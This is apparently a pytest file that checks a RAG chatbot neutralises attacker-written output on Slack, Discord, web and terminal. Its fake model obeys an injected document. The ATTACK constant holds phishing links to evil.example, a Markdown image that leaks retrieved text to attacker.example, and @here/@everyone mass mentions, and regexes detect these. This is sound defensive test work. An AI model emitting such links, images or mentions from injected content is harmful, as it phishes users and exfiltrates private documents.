"""Answers are untrusted text: a model that writes phishing links, images and mass mentions gets none of them onto
a screen, on any surface, while links to the answer's real sources stay links.

The model here obeys a document completely (the fake LLM writes the attack itself); what is checked is every body
the Slack and Discord fakes received, the web page's Markdown, and the terminal's rendering.
"""

from __future__ import annotations

import json
import re

from rich.console import Console

from bot.render import render
from bot.safety import safe_markdown
from bot.views import AnswerView
from rag.models import Answer, Source
from tests.fakes.discord import BOT_ID, CHANNEL_A, GUILD_A
from tests.fakes.slack import wait_for
from tests.test_access_discord import OWNER
from tests.test_discord import start_bot, stop_bot
from tests.test_slack import make_harness

ATTACK = ("The policy is in the handbook [1]. [Reset your SSO](https://evil.example/reset) now, or "
          "<https://evil.example/login|log in here>; see https://evil.example/x and www.evil.example. "
          "![](https://attacker.example/?d=leaked-chunk) ![logo](https://attacker.example/logo.png) "
          "@here @channel @everyone <!channel> <!here> <@U0ADMIN> <@&123456> <!subteam^S1> "
          "Official copy: [the policy]({link}).")
LIVE_EVIL = [
    re.compile(r"<https?://(evil|attacker)\.example"),  # a Slack link (masked or not)
    re.compile(r"\]\((<)?https?://(evil|attacker)\.example"),  # a Markdown link
    re.compile(r"!\["),  # a Markdown image
    re.compile(r"(?<!`)https?://(evil|attacker)\.example[^\s`]*(?!`)\s"),  # a bare URL outside code
    re.compile(r"(?<![\u200b])@(here|channel|everyone)\b"),
    re.compile(r"<(!channel|!here|@U0ADMIN|@&123456|!subteam)"),
]


def live(text: str) -> list[str]:
    """The live attacks in `text`: each pattern that matches."""
    return [p.pattern for p in LIVE_EVIL if p.search(text)]


def test_safe_markdown_keeps_source_links_only() -> None:
    link = "https://fake.slack.com/files/U1/F1/policy.pdf"
    safe = safe_markdown(ATTACK.format(link=link), [link])
    assert live(safe + " ") == []
    assert f"[the policy]({link})" in safe  # the control: the real source stays a link
    assert "`https://evil.example/reset`" in safe and "(image: logo)" in safe
    assert safe_markdown(f"see {link}.", [link]) == f"see {link}."  # an allowed bare URL, punctuation outside
    assert safe_markdown("```\ncurl https://evil.example\n```") == "```\ncurl https://evil.example\n```"
    control = ATTACK.format(link=link)
    assert len(live(control + " ")) == len(LIVE_EVIL)  # the patterns do see the raw attack


async def test_slack_renders_no_live_link_image_or_mention(fake_slack, make_settings, embedder, fake_llm) -> None:
    harness, close = await make_harness(fake_slack, make_settings, embedder, llm="groq",
                                        groq_api_key=fake_llm.api_key, groq_base_url=fake_llm.url)
    try:
        info = fake_slack.add_file("F0POLICY01", "policy.md", b"# Policy\n\nThe handbook covers travel.\n",
                                   channel="D1")
        upload = harness.user_message("", channel="D1", subtype="file_share", files=[{"id": info["id"]}])
        await harness.event({**upload, "type": "message", "channel_type": "im"})
        await wait_for(lambda: any("policy.md: added" in json.dumps(a) for m, a, _ in fake_slack.calls
                                   if m == "chat.update"))
        fake_llm.reply = ATTACK.format(link=info["permalink"])
        mark = len(fake_slack.calls)
        question = harness.user_message("What does the policy cover?", channel="D1")
        await harness.event({**question, "type": "message", "channel_type": "im"})
        await wait_for(lambda: fake_slack.finished(mark, question["ts"]) > 0)  # streamed natively into a thread
        edits = len(fake_slack.calls)
        await harness.command("/ask", "What does the policy cover?", channel="D1")  # edited in place
        await wait_for(lambda: any('"groq · ' in json.dumps(a, ensure_ascii=False) for m, a, _ in
                                   fake_slack.calls[edits:] if m == "chat.update"))
        bodies = [args for method, args, _ in fake_slack.calls[mark:] if method.startswith("chat.")]
        bodies += fake_slack.webhooks
        assert len(bodies) >= 4
        for body in bodies:
            assert live(json.dumps(body, ensure_ascii=False).replace("\\n", " ") + " ") == [], body
        final = json.dumps(bodies, ensure_ascii=False)
        assert f"<{info['permalink']}|the policy>" in final  # the control: the source's own link is live (mrkdwn)
        assert f"[the policy]({info['permalink']})" in final  # and in the natively streamed Markdown
        sections = [b for body in bodies for b in body.get("blocks") or [] if b["type"] == "section"
                    and "evil" in b["text"]["text"]]
        assert sections and all(b["text"].get("verbatim") for b in sections)
    finally:
        await close()


async def test_discord_renders_no_live_link_image_or_mention(fake_discord, make_settings, embedder,
                                                             fake_llm) -> None:
    running = await start_bot(fake_discord, make_settings, embedder, llm="groq", groq_api_key=fake_llm.api_key,
                              groq_base_url=fake_llm.url)
    try:
        attachment = fake_discord.attachment("policy.md", b"# Policy\n\nThe handbook covers travel.\n")
        upload = await fake_discord.message(CHANNEL_A, OWNER, f"<@{BOT_ID}> ingest", guild=GUILD_A, mentions_bot=True,
                                            attachments=[attachment])
        await wait_for(lambda: any("policy.md: added" in m["content"] for m in fake_discord.bot_messages(CHANNEL_A)))
        link = f"https://discord.com/channels/{GUILD_A}/{CHANNEL_A}/{upload['id']}"
        fake_llm.reply = ATTACK.format(link=link)
        mark = len(fake_discord.bodies)
        await fake_discord.message(CHANNEL_A, OWNER, f"<@{BOT_ID}> What does the policy cover?", guild=GUILD_A,
                                   mentions_bot=True)
        await wait_for(lambda: "\\n-# " in json.dumps([b for _, _, b in fake_discord.bodies[mark:]]))
        interaction = await fake_discord.interaction("ask", [{"name": "question", "type": 3,
                                                             "value": "What does the policy cover?"}],
                                                     GUILD_A, CHANNEL_A, OWNER)
        await wait_for(lambda: any("\n-# " in m["content"] for m in fake_discord.interaction_messages(interaction)))
        bodies = [(method, path, body) for method, path, body in fake_discord.bodies[mark:] if isinstance(body, dict)]
        with_text = [(path, body) for _, path, body in bodies if body.get("content") or (body.get("data") or {})
                     .get("content")]
        assert len(with_text) >= 4
        for path, body in with_text:
            assert live(json.dumps(body, ensure_ascii=False).replace("\\n", " ") + " ") == [], (path, body)
        final = json.dumps(with_text, ensure_ascii=False)
        assert f"[the policy]({link})" in final  # the control
        # SUPPRESS_EMBEDS on every message and interaction response that creates a message.
        created = [body for method, path, body in bodies if method == "POST" and (
            path.endswith("/messages") or path.startswith("/webhooks/") or body.get("type") == 4)]
        assert created and all((body.get("flags") or (body.get("data") or {}).get("flags") or 0) & 4
                               for body in created), created
    finally:
        await stop_bot(running)


def test_the_terminal_and_the_web_get_the_safe_body() -> None:
    link = "https://wiki.example/policy"
    answer = Answer(ATTACK.format(link=link), [Source(1, "policy @here.md", "d" * 64, "p. 1", 0.8, "text", link)],
                    {}, "groq")
    view = AnswerView.of("q", answer)
    assert live(view.body + " ") == [] and f"[the policy]({link})" in view.body
    assert "@here" not in view.sources[0].name
    console = Console(width=200)
    links = {segment.style.link for segment in console.render(render(view)) if segment.style and segment.style.link}
    assert links == {link}  # the terminal's only hyperlink is the source's (plain URLs are the emulator's call)
